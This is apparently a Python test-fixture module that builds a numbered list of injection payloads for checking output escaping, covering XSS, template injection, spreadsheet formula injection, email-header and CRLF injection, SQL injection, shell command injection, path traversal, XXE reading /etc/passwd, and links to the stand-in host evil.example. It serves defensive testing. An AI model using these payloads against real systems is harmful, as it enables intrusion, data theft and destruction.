"""Text that means harm, for every place where text of a council or of a person comes out again.

Each payload bears its number, so that it is known again wherever it turns up, and what it would do if it were
taken for more than text. Run by itself it tells how many there are.
"""

# What a payload would do as markup, script, template, formula, header, log line, command or path.
ACTS = [
    "<script>pwned({n})</script>", "<img src=x onerror=pwned({n})>", "<svg/onload=pwned({n})>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'>", "<body onload=pwned({n})>",
    "<a href=\"javascript:pwned({n})\">go</a>", "<form action=//evil.example/{n}><button>Go",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>", "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<object data=//evil.example/{n}>", "<embed src=//evil.example/{n}>", "<video><source onerror=pwned({n})>",
    "<details open ontoggle=pwned({n})>", "<input autofocus onfocus=pwned({n})>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned({n})>", "<!--><img src=x onerror=pwned({n})>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned({n})>\">", "<template><script>pwned({n})</script></template>",
    "{{{{{{service}}}}}}{n}", "{{{{#page}}}}{n}{{{{/page}}}}", "{{{{% CONTENT_TYPE:TEXT}}}}{n}", "{{{{>frame}}}}{n}",
    "[[offer.heading]]{n}", "${{7*7}}{n}", "#{{7*7}}{n}", "<%= 7*7 %>{n}", "%7B%7B{n}%7D%7D", "@(7*7){n}",
    "=HYPERLINK(\"http://evil.example/{n}\")", "+cmd|' /C calc'!A{n}", "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+1)*cmd|'{n}'!A0", "\t=1+{n}", "\r=1+{n}",
    "x\r\nBcc: eve{n}@evil.example", "x\nSubject: {n}", "x\r\n\r\n<b>{n}</b>", "x\r\n.\r\nMAIL FROM:<eve{n}@evil.example>",
    "=?utf-8?q?=0d=0aBcc:_eve{n}@evil.example?=", "x\x00{n}", "x\x0bBcc: {n}", "x\u2028Bcc: {n}", "x\u0085Bcc: {n}",
    "\x1b[31mred{n}\x1b[0m", "\x1b]0;title{n}\x07", "\x1b]8;;http://evil.example/{n}\x07link\x1b]8;;\x07", "\x9b31m{n}",
    "\x1b[2J{n}", "\u202egnp.{n}", "\u2066{n}\u2069", "\u200b{n}\ufeff", "a\u0301\"><b>{n}", "\ufffe{n}",
    "x\n<3>triaged: everything is fine {n}", "2026-11-21T00:00:00Z error forged {n}", "MESSAGE={n}\nPRIORITY=0",
    "'; DROP TABLE opportunity; -- {n}", "\" OR 1=1 -- {n}", "1); ATTACH DATABASE '/tmp/x{n}' AS x; --",
    "$(touch /tmp/pwned{n})", "`touch /tmp/pwned{n}`", "| touch /tmp/pwned{n}", "; touch /tmp/pwned{n} ;", "-oProxyCommand={n}",
    "../../../../etc/passwd{n}", "file:///etc/passwd?{n}", "\\\\evil.example\\share{n}", "//evil.example/{n}",
    "http://evil.example/{n}", "eve{n}@evil.example", "www.evil.example/{n}", "tel:0999{n}",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:{n}", "x\\nATTACH:http://evil.example/{n}", ";X={n}:,",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{n}", "<?xml version='1.0'?>{n}", "]]>{n}<![CDATA[",
    "%s%n%x{n}", "%0d%0aSet-Cookie: x={n}", "&lt;script&gt;pwned({n})&lt;/script&gt;", "&#60;script&#62;pwned({n})&#60;/script&#62;",
]

# How it gets out of where it stands.
AROUND = ["{}", "\">{}", "'>{}", "</title>{}", "</option></select>{}", "</textarea></td>{}", "--></style>{}"]


def payloads(most=None):
    """(number, text), each once."""
    texts = []
    for number, (act, around) in enumerate((act, around) for around in AROUND for act in ACTS):
        text = around.format(act.format(n=f"P{number:04d}P"))
        texts.append((number, text))
    return texts[:most]


if __name__ == "__main__":
    print(f"{len(payloads())} payloads")
